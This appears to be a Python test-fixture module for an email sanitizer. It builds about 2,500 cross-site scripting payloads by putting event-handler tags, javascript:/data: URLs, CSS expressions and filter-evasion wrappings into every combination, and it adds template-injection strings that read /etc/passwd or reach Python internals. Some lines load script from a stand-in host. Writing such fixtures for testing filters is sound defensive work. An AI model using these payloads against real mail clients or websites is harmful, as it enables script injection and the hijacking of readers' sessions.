"""What people try so that something runs in a mail: ways to run it, and ways to get them past a filter.

Every way is put into every wrapping, which makes some two and a half thousand payloads.
"""

from collections.abc import Callable
from typing import Final
from urllib.parse import quote

ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<script src=//x.example/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src='x'onerror='alert(1)'",
    '<img src="x" onload\x0c=\x0calert(1)>',
    "<image href=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><rect width=9 height=9 /></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x />",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,alert(1)>",
    "<applet code=x archive=//x.example></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1) contenteditable onbeforeinput=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=x ping=//x.example onclick=alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#x)'>x</div>",
    "<table background=javascript:alert(1)><td background='vbscript:alert(1)'>x</table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<isindex type=image src=x onerror=alert(1)>",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01\x1fjavascript:alert(1)",
    "\u00a0\u2028javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "javascript\u2003:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://kopi.example/%0aalert(1)",
    "javascript:alert(1)//https://kopi.example",
    "jar:javascript:alert(1)!/",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd?alert(1)",
    "blob:https://x.example/alert(1)",
    "//x.example/alert(1)",
    "\\\\x.example\\alert(1)",
    "http:javascript:alert(1)",
    "https://kopi.example/\" onmouseover=alert(1) x=\"",
    "https://kopi.example/' onmouseover='alert(1)",
    "mailto:a@kopi.example\"><script>alert(1)</script>",
)  # fmt: skip
STYLES: Final = (
    "red;background:url(javascript:alert(1))",
    "#ffffff;}</style><script>alert(1)</script>",
    "#fff\" onmouseover=\"alert(1)",
    "expression(alert(1))",
)  # fmt: skip


def _numbers(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


WRAPPINGS: Final[tuple[Callable[[str], str], ...]] = (
    str,
    str.upper,
    _numbers,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("script", "scr\x00ipt"),
    lambda text: f'">{text}',
    lambda text: f'x" {text} y="',
    lambda text: f"--><!-- -->{text}",
    lambda text: f"<!--{text}-->",
    lambda text: f"<![endif]-->{text}<!--[if mso]>",
    lambda text: f"<!--[if mso]>{text}<![endif]-->",
    lambda text: f"<![CDATA[{text}]]>",
    lambda text: f"<?xml {text}?>",
    lambda text: f"</td></tr></table></div></body></html>{text}",
    lambda text: f"</title></style></textarea></script>{text}",
    lambda text: f"<p title='{text}'>x",
    lambda text: f'<a href="https://kopi.example" title="{text}">x</a>',
    lambda text: f"<table><tr><td>{text}<table>",
    lambda text: f"<svg></p><style><a id='</style>{text}'>",
    lambda text: f"<form><math><mtext></form><form><mglyph><style></math>{text}",
    lambda text: f"<template>{text}</template>",
    lambda text: f"<noscript><style></noscript>{text}",
    lambda text: f"<xmp><p id='</xmp>{text}'>",
    lambda text: f"<style>{text}</style>{text}",
    lambda text: f"{text}\u2028{text}\r\n{text}",
    lambda text: f"{'a' * 300}{text}",
)


def payloads() -> list[str]:
    """Each way in each wrapping, once."""
    ways = (*ELEMENTS, *ADDRESSES, *STYLES)
    return list(dict.fromkeys(wrapped(way) for way in ways for wrapped in WRAPPINGS))


# Braces that are no merge tag: each is refused, or stays words.
TEMPLATES: Final = (
    "{{constructor.constructor('alert(1)')()}}",
    "{{ '<script>alert(1)</script>' }}",
    '{{ "<img src=x onerror=alert(1)>" }}',
    "{{ firstname | default: '<svg onload=alert(1)>' }}",
    "{{ 'javascript:alert(1)' }}",
    "{{ firstname }}javascript:alert(1)",
    "{{ nothing }}java{{ nothing }}script:alert(1)",
    "{% if nothing %}x{% endif %}javascript:alert(1)",
    "{% if nothing %}{{ nothing }}{% else %}{{ 'javascript:alert(1)' }}{% endif %}",
    "{% for a in b %}<script>alert(1)</script>{% endfor %}",
    "{{ a }}\" onerror=\"alert(1)",
    "{{<script>alert(1)</script>}}",
    "{%<script>alert(1)</script>%}",
    "{{ __class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{{",
    "}}{{ firstname",
    "{% endif %}",
    "${alert(1)}<%= alert(1) %>#{alert(1)}",
)  # fmt: skip
